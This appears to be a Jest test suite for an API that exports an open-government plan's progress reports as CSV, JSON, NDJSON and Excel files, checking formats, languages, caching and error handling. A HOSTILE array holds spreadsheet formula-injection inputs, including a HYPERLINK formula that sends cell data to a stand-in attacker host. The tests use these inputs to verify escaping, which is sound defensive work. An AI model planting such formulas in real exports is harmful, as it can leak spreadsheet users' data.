import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import readWorkbook from 'read-excel-file/node';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { once } from 'node:events';
import { request, type IncomingMessage } from 'node:http';
import { unguarded } from '../../src/publications/csv-file.js';
import { digestOf, FILE_FORMAT } from '../../src/publications/file-format.js';
import { TABLES } from '../../src/publications/progress-tables.js';
import { TestApp } from '../support/app.js';
import { begin, handIn } from '../support/filing.js';
import { given, greaterSalt } from '../support/given.js';
import { until } from '../support/until.js';

const PLAN = 'testville-2024';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+1\n'=2",
  '-2+3;"quoted"',
  '@SUM(A1)',
  "'=already guarded",
  "''@twice",
  '\u200f\u202eمرحبا, "هنا"\r\nثانيا',
  '\t=1',
];

type Record_ = Readonly<Record<string, string>>;

/** A part of a workbook, read from its ZIP by its central directory. */
function partOf(zip: Buffer, name: string): string {
  const end = zip.lastIndexOf('PK\x05\x06');
  let at = zip.readUInt32LE(end + 16);
  for (let left = zip.readUInt16LE(end + 10); left > 0; left--) {
    const [nameLength, extra, comment] = [28, 30, 32].map((field) => zip.readUInt16LE(at + field)) as [
      number,
      number,
      number,
    ];
    const found = zip.toString('utf8', at + 46, at + 46 + nameLength);
    if (found === name) {
      const local = zip.readUInt32LE(at + 42);
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      const packed = zip.subarray(start, start + zip.readUInt32LE(at + 20));
      return (zip.readUInt16LE(at + 10) === 0 ? packed : inflateRawSync(packed)).toString();
    }
    at += 46 + nameLength + extra + comment;
  }
  throw new Error(`There is no ${name}.`);
}

describe('the progress files of a plan', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await TestApp.start({ now: '2024-04-05T08:00+03:00' });
    await app.import(
      given.plan({
        institutions: [
          given.institution('works', { name: { en: 'Works', ar: 'الأشغال' } }),
          given.institution('parks'),
        ],
        commitments: [
          given.commitment(1, {
            title: { en: HOSTILE[0]!, ar: 'عنوان' },
            institutions: [{ institution: 'works', role: 'LEAD' }],
            ogpValues: ['ACCESS_TO_INFORMATION'],
            milestones: [
              {
                number: 1,
                title: { en: 'Said to be not started' },
                status: 'NOT_STARTED',
                dueOn: '2024-02-01',
              },
              { number: 2, title: { en: 'Nothing said' } },
            ],
          }),
          given.commitment(2, {
            institutions: [
              { institution: 'works', role: 'LEAD' },
              { institution: 'parks', role: 'SUPPORTING' },
            ],
          }),
          given.commitment(3, { institutions: [{ institution: 'parks', role: 'LEAD' }] }),
        ],
      }),
    );
    await handIn(app, 'works', [1]);
    await begin(app, 'works', [2]);
    await app.db.query(
      `update check_in set status = 'SUBMITTED', version = 1, nothing_to_report = true, obstacles = $1, submitted_at = '2024-04-05T06:00Z',
              submitted_by = 'person:x', punctuality = 'ON_TIME', language = 'en', saved_at = now(), saved_by = 'person:x'
        where commitment_id = (select id from commitment where number = 3)`,
      [HOSTILE[4]],
    );
  });
  afterAll(() => app.close());

  const get = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${app.url}/api/v1/plans/${PLAN}/${path}`, { headers });

  async function csv(query = ''): Promise<Record_[]> {
    const response = await get(`progress.csv${query}`);
    expect(response.status).toBe(200);
    return parse(await response.text(), { columns: true, bom: true }) as unknown as Record_[];
  }

  it('tell no report, nothing to report and not started apart', async () => {
    const rows = await csv();
    expect(rows.map((row) => [row['Commitment Number'], row['Period'], row['Reporting']])).toEqual([
      ['1', '2024-Q1', 'REPORTED'],
      ['2', '2024-Q1', 'NO_REPORT'],
      ['3', '2024-Q1', 'NOTHING_TO_REPORT'],
    ]);
    expect(rows[0]).toMatchObject({
      'Milestones Not Started': '1',
      'Milestones Without Status': '1',
      'Milestones Overdue': '1',
    });
    const checkIns = await csv('?table=check-ins');
    expect(checkIns.map((row) => [row['Commitment Number'], row['Institution'], row['Report'], row['Status']])).toEqual(
      [
        ['1', 'works', 'REPORTED', 'SUBMITTED'],
        ['2', 'parks', 'NO_REPORT', 'EXPECTED'],
        ['2', 'works', 'NO_REPORT', 'EXPECTED'],
        ['3', 'parks', 'NOTHING_TO_REPORT', 'SUBMITTED'],
      ],
    );
  });

  it('begin with the columns of OGP’s own table, under its names', async () => {
    const [head] = (await (await get('progress.csv')).text()).split('\r\n');
    expect(head).toMatch(
      /^Commitment Unique Identifier,Country\/Locality,Region,Theme,Year Of Submission,Action Plan Number,Commitment Number,Commitment Title,Short Title,Full Text,Lead Institution,Supporting Institution\(s\),URL,OGP Value Access To Information,OGP Value Civic Participation,OGP Value Public Accountability,OGP Value Technology,Specificity,Potential Impact,Completion \(Progress Report\),Did It Open Government \(Overall\),Plan,/,
    );
    expect((await csv())[0]).toMatchObject({
      'Country/Locality': 'Testville',
      'Lead Institution': 'Works',
      'OGP Value Access To Information': '1',
      'OGP Value Technology': '0',
      Licence: 'CC-BY-4.0',
    });
  });

  it('keep spreadsheets from running what agencies and plans say, so that it can be undone', async () => {
    const [row] = await csv();
    expect(row!['Commitment Title']).toBe(`'${HOSTILE[0]}`);
    expect(unguarded(row!['Commitment Title']!)).toBe(HOSTILE[0]);
    const checkIns = await csv('?table=check-ins');
    expect(checkIns.at(-1)!['Claimed Obstacles']).toBe(`'${HOSTILE[4]}`);
    for (const text of HOSTILE) {
      await app.db.query(
        `update check_in set obstacles = $1 where commitment_id = (select id from commitment where number = 3)`,
        [text],
      );
      const found = (await csv('?table=check-ins')).at(-1)!['Claimed Obstacles']!;
      expect(found).not.toMatch(/^[=+\-@\t\r\n]/);
      expect(unguarded(found)).toBe(text);
    }
  });

  it('show no draft, whoever asks', async () => {
    const officer = await app.as('MEL_OFFICER', PLAN);
    for (const format of ['progress.json', 'progress.csv?table=check-ins', 'progress.ndjson?table=check-ins']) {
      const text = await (await get(format, officer)).text();
      expect(text).not.toContain('DRAFT');
      expect(text.split('The council met.').length - 1).toBe(format === 'progress.json' ? 2 : 1);
      expect(text).not.toContain('@example.org');
    }
  });

  it('speak the language that is asked for, else the plan’s own', async () => {
    expect((await csv('?language=ar'))[0]).toMatchObject({
      'Commitment Title': 'عنوان',
      'Lead Institution': 'الأشغال',
    });
    expect((await csv('?language=ar'))[1]).toMatchObject({ 'Commitment Title': 'Commitment 2' });
    expect((await (await get('progress.ndjson', { 'accept-language': 'ar' })).text()).split('\n')[0]).toContain(
      'عنوان',
    );
    const refused = await get('progress.csv?language=../x');
    expect([refused.status, await refused.json()]).toMatchObject([400, { code: 'BAD_USER_INPUT' }]);
  });

  it('say the same as CSV, JSON and NDJSON', async () => {
    const json = (await (await get('progress.json')).json()) as {
      tables: Record<string, Array<Record<string, unknown>>>;
      licence: object;
    };
    expect(json.licence).toMatchObject({ name: 'CC-BY-4.0' });
    expect(Object.keys(json.tables)).toEqual([
      'progress',
      'milestones',
      'check-ins',
      'institutions',
      'evidence',
      'assessments',
    ]);
    for (const table of Object.keys(json.tables)) {
      const lines = (await (await get(`progress.ndjson?table=${table}`)).text()).split('\n').slice(0, -1);
      expect(lines.map((line) => JSON.parse(line) as object)).toEqual(json.tables[table]);
      expect((await csv(`?table=${table}`)).length).toBe(lines.length);
    }
    expect(json.tables['progress']![1]).toMatchObject({
      'Commitment Number': 2,
      'Claimed Progress': null,
      'Reports Expected': 2,
    });
  });

  it('open as a workbook with real types, a sheet a table and a codebook, from right to left in Arabic', async () => {
    const open = async (path: string) => Buffer.from(await (await get(path)).arrayBuffer());
    const sheets = await readWorkbook(await open('progress.xlsx?language=ar'));
    expect(sheets.map(({ sheet }) => sheet)).toEqual([
      'progress',
      'milestones',
      'check-ins',
      'institutions',
      'evidence',
      'assessments',
      'codebook',
    ]);
    const [head, first] = sheets[0]!.data as [string[], unknown[]];
    const cell = (column: string) => first[head.indexOf(column)];
    expect(cell('Commitment Number')).toBe(1);
    expect(cell('Period Start Date')).toEqual(new Date('2024-01-01T00:00:00Z'));
    expect(cell('Last Submitted At')).toEqual(expect.any(Date));
    expect(cell('Assessment Completion')).toBeNull();
    const [milestoneHead, milestone] = sheets[1]!.data as [string[], unknown[]];
    expect(milestone[milestoneHead.indexOf('Overdue')]).toBe(true);
    // A formula would be read as its result: the title is text, and has no apostrophe that people would see.
    const english = await readWorkbook(await open('progress.xlsx'));
    expect((english[0]!.data[1] as unknown[])[head.indexOf('Commitment Title')]).toBe(HOSTILE[0]);
    const codebook = sheets.at(-1)!.data as unknown[][];
    for (const column of head)
      expect(codebook.some((row) => row[0] === 'progress' && row[1] === column && row[5])).toBe(true);
    expect(partOf(await open('progress.xlsx?language=ar'), 'xl/worksheets/sheet1.xml')).toMatch(
      /<sheetView[^>]*rightToLeft="1"[^>]*>\s*<pane[^>]*state="frozen"/,
    );
    expect(partOf(await open('progress.xlsx?language=en'), 'xl/worksheets/sheet1.xml')).not.toContain(
      'rightToLeft="1"',
    );
  });

  it('are described by a data package that the schema of Frictionless takes, column by column', async () => {
    const described = (await (await get('datapackage.json?period=2024-Q1')).json()) as {
      resources: Array<{ name: string; path: string; schema: { fields: Array<Record<string, unknown>> } }>;
    };
    // As Frictionless publishes it, taken from its package `datapackage` 1.1.10 (MIT).
    const ajv = new Ajv({ strict: false, allErrors: true });
    addFormats.default(ajv);
    ajv.addFormat('textarea', true);
    const schema = JSON.parse(readFileSync('test/support/tabular-data-package.schema.json', 'utf8')) as {
      $schema?: string;
    };
    delete schema.$schema;
    const valid = ajv.compile(schema);
    expect([valid(described), valid.errors]).toEqual([true, null]);
    expect(valid({ ...described, resources: [{ name: 'x' }] })).toBe(false);
    expect(described).toMatchObject({ name: 'testville-2024-progress-2024-q1', licenses: [{ name: 'CC-BY-4.0' }] });
    for (const {
      path,
      schema: { fields },
    } of described.resources) {
      // As a program reads it that knows nothing of byte order marks.
      const file = await get(path);
      const [head] = parse(Buffer.from(await file.arrayBuffer()), { bom: false });
      expect(head).toEqual(fields.map(({ name }) => name));
      expect(fields.filter(({ description, type, source }) => !description || !type || !source)).toEqual([]);
    }
  });

  it('are told apart by a tag that changes with every write and only then', async () => {
    const first = await get('progress.csv');
    await first.arrayBuffer();
    const tag = first.headers.get('etag')!;
    expect(first.headers.get('content-disposition')).toContain('testville-2024-progress.csv');
    expect(first.headers.get('link')).toContain('creativecommons.org/licenses/by/4.0');
    expect((await get('progress.csv', { 'if-none-match': tag })).status).toBe(304);
    expect((await get('progress.csv', { 'if-none-match': '"garbage", W/"' })).status).toBe(200);
    await app.as('STEERING', PLAN);
    expect((await get('progress.csv', { 'if-none-match': tag })).status).toBe(200);
  });

  it('have another tag with every change of how they are written', async () => {
    for (const path of ['progress.csv', 'progress.xlsx', 'datapackage.json'])
      expect((await get(path)).headers.get('etag')).toContain(FILE_FORMAT);
    const heads = Object.values(TABLES);
    const [first, ...others] = heads;
    const [column, ...columns] = first!.columns;
    const changed = { ...first!, columns: [{ ...column!, codes: { X: 'Another code.' } }, ...columns] };
    expect(FILE_FORMAT).toContain(digestOf(heads));
    expect(digestOf([changed, ...others])).not.toBe(digestOf(heads));
  });

  it('as CSV have no byte order mark where none is wanted, under a tag of their own', async () => {
    const open = async (query: string) => {
      const file = await get(`progress.csv${query}`);
      return { tag: file.headers.get('etag')!, bytes: Buffer.from(await file.arrayBuffer()) };
    };
    const [usual, said, left, bare] = await Promise.all(['', '?bom=yes', '?bom=', '?bom=no'].map(open));
    expect(usual!.bytes.subarray(0, 3)).toEqual(Buffer.from('\ufeff'));
    expect([said, left]).toEqual([usual, usual]);
    expect(bare!.bytes).toEqual(usual!.bytes.subarray(3));
    expect(bare!.tag).not.toBe(usual!.tag);
    expect((await get('progress.csv?bom=no', { 'if-none-match': usual!.tag })).status).toBe(200);
    expect((await get('progress.csv?bom=no', { 'if-none-match': bare!.tag })).status).toBe(304);
    const varies = await Promise.all(['progress.csv', 'progress.xlsx', 'datapackage.json'].map((path) => get(path)));
    for (const { headers } of varies) expect(headers.get('vary')).toMatch(/accept-language/i);
    const wrong = await Promise.all(
      [
        'progress.csv?bom=false',
        'progress.xlsx?bom=no',
        'progress.xlsx?table=milestones',
        'progress.json?table=milestones',
      ].map((path) => get(path)),
    );
    expect(wrong.map(({ status }) => status)).toEqual([400, 400, 400, 400]);
  });

  it('refuse unknown plans, periods and tables in words', async () => {
    const answers = await Promise.all(
      ['progress.csv?period=2031-Q1', 'progress.csv?table=secrets', 'progress.csv?table=__proto__'].map(
        async (path) => {
          const response = await get(path);
          return [response.status, ((await response.json()) as { code: string }).code];
        },
      ),
    );
    expect(answers).toEqual([
      [404, 'NOT_FOUND'],
      [400, 'BAD_USER_INPUT'],
      [400, 'BAD_USER_INPUT'],
    ]);
    expect((await fetch(`${app.url}/api/v1/plans/nowhere/progress.csv`)).status).toBe(404);
    for (const wrong of ['?asof=2024-04-05T08:00Z', '?table=milestones&table=institutions', '?zzz=1'])
      expect((await get(`progress.csv${wrong}`)).status).toBe(400);
  });

  it('give every connection back, also those of clients that went away or asked for the head alone', async () => {
    await app.db.query(
      `insert into commitment (plan_id, number, title)
       select p.id, n, jsonb_build_object('en', jsonb_build_object('origin', 'ORIGINAL',
                'text', (select string_agg(md5(n::text || m::text), '') from generate_series(1, 400) m)))
         from action_plan p, generate_series(100, 2000) n`,
    );
    const reading = `select count(*)::int as count from pg_stat_activity where datname = current_database() and xact_start is not null and pid <> pg_backend_pid()`;
    const gone = ['ndjson', 'xlsx', 'json', 'csv'].map(async (format) => {
      const client = request(`${app.url}/api/v1/plans/${PLAN}/progress.${format}`, { agent: false }).end();
      const [response] = (await once(client, 'response')) as [IncomingMessage];
      await once(response, 'readable');
      client.on('error', () => undefined);
      response.on('error', () => undefined);
      return client;
    });
    const clients = await Promise.all(gone);
    expect((await app.db.query<[{ count: number }]>(reading))[0].count).toBe(4);
    const busy = await get('progress.csv');
    expect([busy.status, busy.headers.get('retry-after')]).toEqual([429, '5']);
    // Nobody may keep the refusal as the file.
    expect(busy.headers.get('cache-control')).toBe('no-store');
    expect([busy.headers.get('etag'), busy.headers.get('content-disposition')]).toEqual([null, null]);
    for (const client of clients) client.destroy();
    await until(async () => (await app.db.query<[{ count: number }]>(reading))[0].count === 0);
    expect((await fetch(`${app.url}/api/v1/plans/${PLAN}/progress.csv`, { method: 'HEAD' })).status).toBe(200);
    const head = await fetch(`${app.url}/api/v1/plans/${PLAN}/progress.csv`, { method: 'HEAD' });
    expect([head.headers.get('content-length'), head.headers.get('content-type')]).toEqual([
      null,
      'text/csv; charset=utf-8; header=present',
    ]);
    expect((await csv('?table=institutions')).length).toBe(2);
    expect((await app.db.query<[{ count: number }]>(reading))[0].count).toBe(0);
    await app.db.query(`delete from commitment where number >= 100`);
  });

  it('of Greater Salt read as people wrote it', async () => {
    await app.import(greaterSalt());
    const file = await fetch(`${app.url}/api/v1/plans/greater-salt-2024-2025/progress.csv?language=ar`);
    const bytes = Buffer.from(await file.arrayBuffer());
    const rows = parse(bytes, { columns: true, bom: true }) as unknown as Record_[];
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from('\ufeff'));
    expect(rows.length).toBeGreaterThan(3);
    expect(rows[0]!['Commitment Title']).toMatch(/\p{Script=Arabic}/u);
  });
});
